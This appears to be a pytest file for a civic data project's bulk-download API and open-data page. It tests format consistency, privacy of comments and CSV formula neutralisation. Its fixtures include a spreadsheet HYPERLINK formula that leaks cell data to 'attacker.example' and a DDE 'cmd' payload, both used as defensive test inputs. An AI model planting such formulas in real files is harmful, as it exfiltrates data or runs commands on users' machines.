"""Bulk downloads (``/api/v1/downloads``) and the open data page (``/{lang}/open-data``).

The store is the demo store (registry, a month of sample activity, monthly metrics) plus a few
hostile rows: an organisation and a post whose text is a spreadsheet formula, a negative metric value,
and a comment with a recognisable text and pseudonym that must never leave the store.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, func, select

from govsocial.analyze import extract as extract_module
from govsocial.analyze.metrics.model import registry
from govsocial.analyze.metrics.params import MetricParams
from govsocial.settings import Settings
from govsocial.store import tables as t
from govsocial.store.db import make_engine, session_factory
from govsocial.store.open_data import BATCH, DATASETS, Kind, Scope
from govsocial.web.api.downloads import _filename, csv_cell
from govsocial.web.app import create_app
from govsocial.web.pages.open_data import DESCRIPTIONS
from govsocial.web.schemas import ErrorBody
from tests.analyze.store_rows import Store, hk
from tests.demo_store import demo_store

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for prize")'
PLUS_FORMULA = "+cmd|' /C calc'!A0"
SECRET_COMMENT = "H4-secret-comment-text-that-must-never-be-downloaded"
SECRET_AUTHOR = "h4pseudonym0123456789abcdef"
#: What a source may say of a post beyond the common fields: a published key, and one that can name a
#: person other than the account (Facebook's ``story``), which no download may give.
HOSTILE_EXTRA = {"title": "=Budget briefing", "story": "h4-private-person is with Chan Tai Man."}
NEGATIVE = -2.5
FORMATS = ("csv", "json", "parquet")
BOM = "\ufeff"


def _add_hostile_rows(url: str) -> None:
    """An organisation and a post that start with a formula, a negative value, a secret comment."""
    engine = make_engine(url)
    now = dt.datetime(2026, 9, 30, 12, tzinfo=dt.UTC)
    with session_factory(engine)() as session:
        session.add(
            t.Organisation(jurisdiction="hk", code="h4-hostile", org_type=t.OrgType.OTHER, name_en=FORMULA)
        )
        account = session.scalars(
            select(t.Account).where(t.Account.status == t.AccountStatus.PUBLISHED).order_by(t.Account.id)
        ).first()
        assert account is not None
        post = t.Post(
            account_id=account.id, platform=account.platform, post_id="h4-hostile-post", created_at=now,
            format="text", text=PLUS_FORMULA, url="https://example.org/p/h4", source="test",
            first_seen_at=now, last_seen_at=now, content_hash="h4", extra=HOSTILE_EXTRA,
        )  # fmt: skip
        session.add(post)
        session.flush()
        session.add(
            t.Comment(
                post_id=post.id, platform=account.platform, comment_id="h4-secret", created_at=now,
                author=SECRET_AUTHOR, text=SECRET_COMMENT, source="test", content_hash="h4",
            )
        )  # fmt: skip
        session.add(
            t.MetricValue(
                jurisdiction="hk", metric="h4_negative", level="government", entity="hk", period_kind="month",
                period="2026-09", value=NEGATIVE, inputs={"delta": -5}, params=MetricParams().digest(),
                computed_at=now,
            )
        )  # fmt: skip
        session.commit()
    engine.dispose()


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = demo_store(tmp_path_factory.mktemp("downloads"), months=1, refresh=True)
    _add_hostile_rows(url)
    return url


@pytest.fixture(scope="module")
def api(store: str) -> Iterator[TestClient]:
    with TestClient(create_app(Settings.load(database_url=store))) as client:
        yield client


@pytest.fixture(scope="module")
def catalogue(api: TestClient) -> dict[str, Any]:
    response = api.get("/api/v1/downloads")
    assert response.status_code == 200
    body: dict[str, Any] = response.json()
    return body


def _counts(catalogue: dict[str, Any]) -> dict[str, int]:
    return {d["name"]: d["count"] for d in catalogue["data"]}


def _csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith(BOM), "CSV must start with a byte order mark for Excel"
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))


def _as_csv(dataset: str, row: list[Any]) -> list[str]:
    """A typed row (from JSON or Parquet) as the CSV cells it must equal."""
    kinds = [c.kind for c in DATASETS[dataset].columns]
    return [csv_cell(v, k) for v, k in zip(row, kinds, strict=True)]


def _download(api: TestClient, dataset: str, fmt: str) -> bytes:
    response = api.get(f"/api/v1/downloads/{dataset}.{fmt}")
    assert response.status_code == 200, response.text
    content: bytes = response.content
    return content


# --- the catalogue --------------------------------------------------------------------------------


def test_catalogue_lists_every_dataset_with_files_and_licence(catalogue: dict[str, Any]) -> None:
    assert [d["name"] for d in catalogue["data"]] == ["organisations", "accounts", "metric_values", "posts"]
    assert catalogue["count"] == 4 and catalogue["jurisdiction"] == "hk"
    assert catalogue["params"] == MetricParams().digest()
    assert "never included" in catalogue["licence"]
    for d in catalogue["data"]:
        assert d["count"] > 0, d["name"]
        urls = {f["format"]: f["url"] for f in d["files"]}
        assert urls == {fmt: f"/api/v1/downloads/{d['name']}.{fmt}" for fmt in FORMATS}
        assert [c["name"] for c in d["columns"]] == DATASETS[d["name"]].column_names


def test_catalogue_counts_agree_with_the_paged_api(api: TestClient, catalogue: dict[str, Any]) -> None:
    counts = _counts(catalogue)
    assert counts["organisations"] == api.get("/api/v1/organisations?limit=1").json()["count"]
    assert counts["accounts"] == api.get("/api/v1/accounts?limit=1").json()["count"]
    assert counts["posts"] == api.get("/api/v1/timeline?limit=1").json()["count"]
    paged = sum(
        api.get(f"/api/v1/metrics/{name}", params={"limit": 1}).json()["count"] for name in registry()
    )
    assert counts["metric_values"] == paged + 1  # the hostile value's metric is not in the registry


def test_catalogue_of_another_jurisdiction_has_its_own_rows_and_its_urls_say_so(api: TestClient) -> None:
    body = api.get("/api/v1/downloads", params={"jurisdiction": "us-doc"}).json()
    assert body["jurisdiction"] == "us-doc" and _counts(body)["posts"] == 0 < _counts(body)["accounts"]
    assert body["data"][0]["files"][0]["url"] == "/api/v1/downloads/organisations.csv?jurisdiction=us-doc"
    rows = _csv_rows(api.get("/api/v1/downloads/posts.csv", params={"jurisdiction": "us-doc"}).content)
    assert rows == [DATASETS["posts"].column_names]
    assert api.get("/api/v1/downloads/posts.json?jurisdiction=us-doc").json() == {"data": [], "count": 0}


def test_an_unknown_jurisdiction_is_a_404_for_the_catalogue_and_every_file(api: TestClient) -> None:
    for path in ("/api/v1/downloads", "/api/v1/downloads/posts.csv", "/api/v1/downloads/posts.parquet"):
        answer = api.get(path, params={"jurisdiction": "nowhere"})
        assert answer.status_code == 404, path
        assert answer.json() == {"detail": "jurisdiction: no jurisdiction 'nowhere' in the registry"}
        assert "content-disposition" not in answer.headers


# --- the files ------------------------------------------------------------------------------------


@pytest.mark.parametrize("dataset", list(DATASETS))
def test_csv_json_and_parquet_hold_the_same_rows(
    api: TestClient, catalogue: dict[str, Any], dataset: str
) -> None:
    count = _counts(catalogue)[dataset]
    header, *rows = _csv_rows(_download(api, dataset, "csv"))
    assert header == DATASETS[dataset].column_names
    assert len(rows) == count

    document = json.loads(_download(api, dataset, "json"))
    assert document["count"] == len(document["data"]) == count
    assert [list(item) for item in document["data"][:1]] == [header]
    assert [_as_csv(dataset, list(item.values())) for item in document["data"]] == rows

    table = pq.read_table(io.BytesIO(_download(api, dataset, "parquet")))
    assert table.column_names == header and table.num_rows == count
    parquet_rows = [list(r.values()) for r in table.to_pylist()]
    assert [_as_csv(dataset, r) for r in parquet_rows] == rows


def test_parquet_columns_are_typed(api: TestClient) -> None:
    schema = pq.read_table(io.BytesIO(_download(api, "posts", "parquet"))).schema
    assert str(schema.field("id").type) == "int64"
    assert str(schema.field("created_at").type) == "timestamp[us, tz=UTC]"
    assert str(schema.field("sample").type) == "bool"
    assert str(schema.field("text").type) == "string"


@pytest.mark.parametrize(
    ("fmt", "media_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("json", "application/json"),
        ("parquet", "application/vnd.apache.parquet"),
    ],
)
def test_file_headers(api: TestClient, fmt: str, media_type: str) -> None:
    response = api.get(f"/api/v1/downloads/accounts.{fmt}")
    assert response.headers["content-type"] == media_type
    assert response.headers["content-disposition"] == f'attachment; filename="govsocial-hk-accounts.{fmt}"'
    assert response.headers["cache-control"] == "public, max-age=60"
    assert response.headers["access-control-allow-origin"] == "*"
    assert "etag" not in response.headers  # streamed: the caching middleware passes it through


def test_head_gives_the_headers_without_the_body(api: TestClient) -> None:
    for fmt in FORMATS:
        response = api.head(f"/api/v1/downloads/organisations.{fmt}")
        assert response.status_code == 200
        assert response.headers["content-disposition"].endswith(f'.{fmt}"')
        assert response.content == b""


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/downloads/comments.csv",
        "/api/v1/downloads/posts.xlsx",
        "/api/v1/downloads/posts.",
        "/api/v1/downloads/posts",
    ],
)
def test_unknown_dataset_or_format_is_a_404_error_body(api: TestClient, path: str) -> None:
    response = api.get(path)
    assert response.status_code == 404
    assert response.headers["content-type"] == "application/json"
    ErrorBody.model_validate(response.json())


# --- what the cells say ---------------------------------------------------------------------------


def _rows_by(api: TestClient, dataset: str, column: str) -> dict[str, dict[str, str]]:
    header, *rows = _csv_rows(_download(api, dataset, "csv"))
    return {row[header.index(column)]: dict(zip(header, row, strict=True)) for row in rows}


def test_formulas_are_neutralised_in_csv_only(api: TestClient) -> None:
    org = _rows_by(api, "organisations", "code")["h4-hostile"]
    assert org["name_en"] == "'" + FORMULA
    post = _rows_by(api, "posts", "platform_post_id")["h4-hostile-post"]
    assert post["text"] == "'" + PLUS_FORMULA
    posts = json.loads(_download(api, "posts", "json"))["data"]
    assert [p["text"] for p in posts if p["platform_post_id"] == "h4-hostile-post"] == [PLUS_FORMULA]


def test_posts_give_the_published_part_of_extra_in_every_format(api: TestClient) -> None:
    post = _rows_by(api, "posts", "platform_post_id")["h4-hostile-post"]
    assert json.loads(post["extra"]) == {"title": "=Budget briefing"}  # JSON text: never a formula
    posts = json.loads(_download(api, "posts", "json"))["data"]
    assert [json.loads(p["extra"]) for p in posts if p["platform_post_id"] == "h4-hostile-post"] == [
        {"title": "=Budget briefing"}
    ]
    assert {p["extra"] for p in posts if p["platform_post_id"] != "h4-hostile-post"} == {None}
    for fmt in FORMATS:
        content = _download(api, "posts", fmt)
        text = str(pq.read_table(io.BytesIO(content)).to_pylist()) if fmt == "parquet" else content.decode()
        assert "h4-private-person" not in text and "story" not in text, fmt


def test_numbers_stay_numbers(api: TestClient) -> None:
    value = _rows_by(api, "metric_values", "metric")["h4_negative"]
    assert value["value"] == str(NEGATIVE)
    assert json.loads(value["inputs"]) == {"delta": -5}
    values = json.loads(_download(api, "metric_values", "json"))["data"]
    assert [v["value"] for v in values if v["metric"] == "h4_negative"] == [NEGATIVE]


def test_csv_cell_prefixes_only_text_that_starts_a_formula() -> None:
    for hostile in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(hostile, Kind.TEXT) == "'" + hostile
    assert csv_cell("a=b", Kind.TEXT) == "a=b"
    assert csv_cell(-3, Kind.INTEGER) == "-3"
    assert csv_cell(-0.5, Kind.NUMBER) == "-0.5"
    assert csv_cell(None, Kind.TEXT) == ""
    assert csv_cell(False, Kind.BOOLEAN) == "false"
    assert csv_cell(dt.datetime(2026, 9, 1, 4, tzinfo=dt.UTC), Kind.DATETIME) == "2026-09-01T04:00:00Z"


def test_no_comment_or_commenter_in_any_file(api: TestClient, store: str) -> None:
    engine = make_engine(store)
    with session_factory(engine)() as session:
        authors = set(session.scalars(select(t.Comment.author).where(t.Comment.author.is_not(None))))
        long_texts = set(session.scalars(select(t.Comment.text).where(func.length(t.Comment.text) >= 40)))
    engine.dispose()
    assert SECRET_AUTHOR in authors and len(authors) > 10 and long_texts
    for dataset in DATASETS:
        for fmt in FORMATS:
            content = _download(api, dataset, fmt)
            text = (
                str(pq.read_table(io.BytesIO(content)).to_pylist()) if fmt == "parquet" else content.decode()
            )
            leaked = [s for s in (SECRET_COMMENT, *authors, *long_texts) if s and s in text]
            assert not leaked, (dataset, fmt, leaked[:3])


def test_batches_join_up_whatever_their_size(store: str) -> None:
    """Keyset paging: many small batches give the same rows, in the same order, as one large one."""
    engine = make_engine(store)
    scope = Scope("hk", MetricParams().digest())
    with session_factory(engine)() as session:
        for dataset in DATASETS.values():
            small = [row for batch in dataset.batches(session, scope, 7) for row in batch]
            whole = [row for batch in dataset.batches(session, scope, BATCH) for row in batch]
            assert small == whole and len(whole) == dataset.count(session, scope)
    engine.dispose()


# --- the open data page ---------------------------------------------------------------------------


def test_every_description_is_marked_for_translation() -> None:
    described = {d.description for d in DATASETS.values()}
    described |= {c.description for d in DATASETS.values() for c in d.columns}
    assert described == set(DESCRIPTIONS)


@pytest.mark.parametrize("lang", ["en", "zh-hant"])
def test_open_data_page_lists_datasets_counts_and_working_links(
    api: TestClient, catalogue: dict[str, Any], lang: str
) -> None:
    response = api.get(f"/{lang}/open-data")
    assert response.status_code == 200
    html = response.text
    assert 'aria-current="page"' in html and f'href="/{lang}/open-data" aria-current="page"' in html
    for name, count in _counts(catalogue).items():
        assert f'id="{name}"' in html
        assert f"{count:,}" in html
    links = re.findall(r'href="([^"#]+)"', html)
    downloads = [link for link in links if link.startswith("/api/v1/downloads/")]
    assert len(downloads) == len(DATASETS) * len(FORMATS)
    wanted = {"/api/v1/openapi.json", "/api/v1/downloads", f"/{lang}/api", f"/{lang}/timeline.atom"}
    assert wanted <= set(links)
    for link in sorted(wanted):
        assert api.get(link).status_code == 200, link
    for link in downloads:
        assert api.head(link).status_code == 200, link


def test_open_data_page_says_commenters_are_never_included_and_labels_sample_data(api: TestClient) -> None:
    html = api.get("/en/open-data").text
    assert "Comments and commenters are never included" in html
    assert "Sample data" in html
    assert "留言及留言者" in api.get("/zh-hant/open-data").text


def test_a_strange_jurisdiction_is_a_404_and_could_never_make_an_unsafe_file_name(api: TestClient) -> None:
    response = api.get("/api/v1/downloads/posts.parquet", params={"jurisdiction": 'x"y;中\r\n'})
    assert response.status_code == 404 and "content-disposition" not in response.headers
    # A registry may hold any code: the name keeps only safe characters all the same.
    name = _filename(DATASETS["posts"], Scope('x"y;中\r\n', MetricParams().digest()), "parquet")
    assert name == "govsocial-xy-posts.parquet"


# --- on each backend ------------------------------------------------------------------------------


def test_posts_download_keeps_to_published_accounts_on_each_backend(engine: Engine) -> None:
    """SQLite and PostgreSQL: only the published accounts' live posts, the latest counts, UTC times."""
    with session_factory(engine)() as session:
        s = Store(session)
        s.jurisdiction()
        cfs = s.organisation("cfs")
        official = s.account("facebook", [cfs])
        review = s.account("facebook", [cfs], status=t.AccountStatus.UNDER_REVIEW)
        kept = s.post(official, hk(2026, 9, 1, 9), "-1 為負數", url="https://www.facebook.com/p/1")
        s.snapshot(kept, hk(2026, 9, 2), likes=3, reactions={"like": 3})
        s.snapshot(kept, hk(2026, 9, 3), likes=5, reactions={"like": 4, "love": 1})
        s.post(official, hk(2026, 9, 2), "已刪除", deleted_at=hk(2026, 9, 3))
        s.post(review, hk(2026, 9, 2), "未確認")
        s.comment(kept, hk(2026, 9, 1, 10), "留言不可外洩", author="pseudonym-x")
        session.add(
            t.MetricValue(
                jurisdiction="hk", metric="post_volume", level="organisation", entity="cfs",
                period_kind="month", period="2026-09", value=1.0, inputs={"posts": 1},
                params=MetricParams().digest(), computed_at=hk(2026, 9, 30),
            )
        )  # fmt: skip
        session.commit()
    url = engine.url.render_as_string(hide_password=False)
    with TestClient(create_app(Settings.load(database_url=url, jurisdiction="hk"))) as client:
        header, *rows = _csv_rows(client.get("/api/v1/downloads/posts.csv").content)
        document = client.get("/api/v1/downloads/posts.json").json()
        accounts = _csv_rows(client.get("/api/v1/downloads/accounts.csv").content)
        counts = _counts(client.get("/api/v1/downloads").json())
        values = client.get("/api/v1/downloads/metric_values.json").json()
        for dataset in DATASETS:
            table = pq.read_table(io.BytesIO(client.get(f"/api/v1/downloads/{dataset}.parquet").content))
            assert table.num_rows == counts[dataset], dataset
    assert len(rows) == 1 and document["count"] == 1
    assert counts == {"organisations": 1, "accounts": 2, "metric_values": 1, "posts": 1}
    post = dict(zip(header, rows[0], strict=True))
    assert post["text"] == "'-1 為負數" and document["data"][0]["text"] == "-1 為負數"
    assert post["created_at"] == "2026-09-01T01:00:00Z"  # 09:00 in Hong Kong
    assert (post["likes"], post["reactions"]) == ("5", '{"like":4,"love":1}')
    assert post["counts_taken_at"] == "2026-09-03T04:00:00Z"  # the later snapshot, at noon
    assert [row[accounts[0].index("organisations")] for row in accounts[1:]] == ["cfs", "cfs"]
    assert (
        values["data"][0]["inputs"] == '{"posts":1}'
        and values["data"][0]["computed_at"] == "2026-09-30T04:00:00Z"
    )
    assert "留言不可外洩" not in str(document) and "pseudonym-x" not in str(document)


# --- followers at posting ---------------------------------------------------------------------------


def test_posts_give_the_followers_at_posting_the_metrics_use_on_each_backend(engine: Engine) -> None:
    """SQLite and PostgreSQL: the count the source gave, else the account's latest earlier count within
    the reach (never a later one, never an older one), else null; the same in every format, and the
    same numbers as the metrics' frames."""
    with session_factory(engine)() as session:
        s = Store(session)
        s.jurisdiction()
        cfs = s.organisation("cfs")
        account = s.account("facebook", [cfs])
        other = s.account("facebook", [cfs])
        s.followers(account, hk(2026, 8, 20), 900)
        s.followers(account, hk(2026, 9, 1), 1000)
        s.followers(account, hk(2026, 9, 2), None)  # no count: never stands in
        s.followers(account, hk(2026, 9, 5), 1100)  # after the posts below: never stands in
        s.followers(other, hk(2026, 8, 1), 50)  # another account's, and too old for any post
        posts = {
            "given": s.post(account, hk(2026, 9, 3), "a", followers_at_posting=777),
            "filled": s.post(account, hk(2026, 9, 3), "b"),
            "too_old": s.post(account, hk(2026, 8, 28, 13), "c"),  # 8 days after 900, 4 before 1000
            "at_reach": s.post(account, hk(2026, 8, 27), "d"),  # exactly 7 days after 900
            "none": s.post(other, hk(2026, 9, 3), "e"),
        }
        session.commit()
    url = engine.url.render_as_string(hide_password=False)
    with TestClient(create_app(Settings.load(database_url=url, jurisdiction="hk"))) as client:
        header, *rows = _csv_rows(client.get("/api/v1/downloads/posts.csv").content)
        document = client.get("/api/v1/downloads/posts.json").json()
        table = pq.read_table(io.BytesIO(client.get("/api/v1/downloads/posts.parquet").content))
    assert header[-1] == "followers_at_posting" and header[-2] == "extra"  # the new column comes last
    by_id = {int(row[0]): row[-1] for row in rows}
    expected = {"given": 777, "filled": 1000, "too_old": None, "at_reach": 900, "none": None}
    assert {name: by_id[post] for name, post in posts.items()} == {
        name: "" if value is None else str(value) for name, value in expected.items()
    }
    from_json = {p["id"]: p["followers_at_posting"] for p in document["data"]}
    from_parquet = dict(zip(table["id"].to_pylist(), table["followers_at_posting"].to_pylist(), strict=True))
    assert from_json == from_parquet == {post: expected[name] for name, post in posts.items()}
    frame = extract_module.extract(engine, "hk").tables["posts"]
    metrics = dict(zip(frame["post_id"].to_pylist(), frame["followers_at_posting"].to_pylist(), strict=True))
    assert metrics == from_json
